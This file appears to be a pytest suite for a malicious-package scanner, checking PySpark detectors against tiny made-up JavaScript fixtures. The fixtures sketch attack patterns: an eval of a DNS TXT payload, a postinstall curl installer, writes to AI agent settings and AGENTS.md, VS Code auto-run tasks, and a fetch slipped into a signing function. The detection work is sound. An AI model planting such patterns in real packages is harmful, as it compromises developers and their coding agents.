"""Code facts on small made-up sources."""

from pyspark.sql import functions as F

from tarnwatch.operators import code_facts as C


def sources(spark, *rows):
    return spark.createDataFrame([(p, a, c) for p, a, c in rows], "package string, path string, content string")


def test_dropper_needs_an_anchor(spark):
    array = "[" + ",".join(f"'{i:08x}'" for i in range(10)) + "]"
    f = sources(
        spark, ("a", "i.js", f"const x = {array}; Buffer.from(x[0], 'hex')"), ("b", "i.js", "process.platform; fetch('http://x')"),
        ("c", "i.js", "dns.resolveTxt('x', r => eval(atob(r)))"), ("d", "i.js", None), ("a", "README.md", "use require('a')"),
    )
    p = spark.createDataFrame([(n, {"test": "x"}) for n in "abcd"], "package string, scripts map<string,string>")
    got = {r["package"]: (r["score"], r["signals"]) for r in C.dropper(f, p).collect()}
    assert got == {"a": (100, ["encoded_string_array", "string_array_decoder", "readme_directed_entry"]), "c": (100, ["dns_payload_assembly", "dns_txt_oob"])}


def test_runtime_evasion(spark):
    f = sources(spark, ("a", "setup.js", "curl https://bun.sh/install"), ("b", "index.js", "Bun.spawn(['x'])"), ("c", "lib.js", "Bun.file('x'); Bun.serve({})"))
    p = spark.createDataFrame([("a", {"postinstall": "node setup.js"}, None), ("b", {}, None), ("c", {}, None), ("d", {"install": "deno run x.ts"}, None)], "package string, scripts map<string,string>, main string")
    got = {r["package"]: (r["score"], r["severity"]) for r in C.runtime_evasion(f, p).collect()}
    assert got == {"a": (100, "critical"), "b": (100, "critical"), "d": (55, "high")}


def test_workspace_persistence(spark):
    f = sources(
        spark, ("a", "x.js", "fs.writeFileSync(path.join(home, '.claude', 'settings.json'), y)"), ("b", "x.js", "fs.writeFile('AGENTS.md', y); fs.writeFile('AGENTS.md', z)"),
        ("c", ".vscode/tasks.json", '{"runOn":"folderOpen"}'), ("d", "x.js", "fs.writeFile('out.txt', y)"), ("e", ".github/workflows/a.yml", "on: pull_request_target"),
    )
    assert {r["package"]: r["score"] for r in C.workspace_persistence(f).collect()} == {"a": 85, "b": 55, "c": 95, "e": 100}


def test_surface_order(spark):
    d = spark.createDataFrame([(".claude/settings.json",), (".claude/notes.md",), (".claude/x.txt",), ("src/a.js",)], "p string")
    assert [r[0] for r in d.select(C.surface_band(F.col("p"))).collect()] == ["exec", "agent_read", "editor_config", None]


def test_crypto_tamper(spark):
    f = spark.createDataFrame([("p", "1", "a.js", "function sign(x) { return x }\nfunction other() { fetch('u') }"), ("p", "2", "a.js", "function sign(x) { fetch('http://x'); return x }")], "package string, version string, path string, content string")
    o = spark.createDataFrame([("p", "2", "1")], "package string, version string, previous string")
    assert [(r["version"], r["name"]) for r in C.crypto_tamper(f, o, ["sign"]).collect()] == [("2", "sign")]


def test_files_are_read_whole(spark):
    pad = "x = 1;\n" * 80_000  # 560,000 characters
    array = "[" + ",".join(f"'{i:08x}'" for i in range(10)) + "]"
    f = sources(spark, ("a", "i.js", f"{pad}const x = {array}; Buffer.from(x[0], 'hex')"), ("b", "index.js", f"{pad}Bun.spawn(['x'])"), ("c", "i.js", f"{pad}fs.writeFileSync('.vscode/tasks.json', x)"))
    p = spark.createDataFrame([(n, {"test": "x"}, None) for n in "abc"], "package string, scripts map<string,string>, main string")
    assert [r["package"] for r in C.dropper(f, p).collect()] == ["a"]
    assert [r["package"] for r in C.runtime_evasion(f, p).collect()] == ["b"]
    assert [r["package"] for r in C.workspace_persistence(f).collect()] == ["c"]
